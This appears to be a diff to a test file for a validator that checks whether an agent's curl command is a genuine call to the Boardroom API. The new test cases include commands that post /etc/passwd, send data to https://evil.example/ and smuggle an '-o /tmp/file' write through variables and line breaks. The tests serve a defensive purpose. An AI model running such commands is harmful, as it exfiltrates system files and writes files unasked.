@@ -5,7 +5,18 @@ import { describe, expect, it } from "vitest";
 import { isBoardroomCall } from "./is-boardroom-call.ts";
 
 const own = "http://127.0.0.1:4100";
-const check = (command: string) => isBoardroomCall(command, own);
+const id = "0191d3c2-7f1e-7c3a-9d53-0c8a2a4f4a11";
+const variables = {
+  PAPERCLIP_API_URL: own,
+  PAPERCLIP_API_KEY: "brl_x-Y_1",
+  PAPERCLIP_AGENT_ID: id,
+  PAPERCLIP_COMPANY_ID: id,
+  PAPERCLIP_RUN_ID: id,
+  PAPERCLIP_TASK_ID: id,
+  PAPERCLIP_WAKE_COMMENT_ID: "x -o /tmp/file",
+  PAPERCLIP_APPROVAL_ID: "",
+};
+const check = (command: string) => isBoardroomCall(command, variables);
 
 describe("a call of Boardroom's own API", () => {
   it.each([
@@ -68,6 +79,18 @@ describe("a call of Boardroom's own API", () => {
     'curl -s "$PAPERCLIP_API_URL/api/x',
     "curl -s \u0001PAPERCLIP_API_URL\u0001/api/x",
     "curl -X 'POST -o x' $PAPERCLIP_API_URL/api/x",
+    // What isn't set vanishes: the words after it take other places, and `@` comes first.
+    'curl -s -d "$PAPERCLIP_NOTHING_ID@/etc/passwd" $PAPERCLIP_API_URL/api/x',
+    'curl -s -d "$PAPERCLIP_APPROVAL_ID@/etc/passwd" $PAPERCLIP_API_URL/api/x',
+    "curl -s -d $PAPERCLIP_NOTHING_ID -d https://evil.example/ $PAPERCLIP_API_URL/api/x",
+    "curl -s -d $PAPERCLIP_NOTHING_ID -d -o/tmp/file $PAPERCLIP_API_URL/api/x",
+    "curl -s -d $PAPERCLIP_constructor_ID $PAPERCLIP_API_URL/api/x",
+    // What comes from a wake's payload may be more than one word.
+    "curl -s $PAPERCLIP_API_URL/api/x -d $PAPERCLIP_WAKE_COMMENT_ID",
+    // A line that goes on goes on in the middle of a word, too.
+    "curl -s --data\\\n-binary --data-raw https://evil.example/ $PAPERCLIP_API_URL/api/x",
+    "curl -s --data\\\n-binary -d -o/tmp/file $PAPERCLIP_API_URL/api/x",
+    "curl -s -d\\\n @/etc/passwd $PAPERCLIP_API_URL/api/x",
     "curl -d",
     "curl",
     "",
@@ -108,7 +131,8 @@ describe("a call of Boardroom's own API", () => {
   });
 
   it("needs a known address", () => {
-    expect(isBoardroomCall("curl -s /api/x", "")).toBe(false);
-    expect(isBoardroomCall("curl -s undefined/api/x", undefined)).toBe(false);
+    expect(isBoardroomCall("curl -s /api/x", { PAPERCLIP_API_URL: "" })).toBe(false);
+    expect(isBoardroomCall("curl -s undefined/api/x", {})).toBe(false);
+    expect(isBoardroomCall("curl -s $PAPERCLIP_API_URL/api/x", {})).toBe(false);
   });
 });
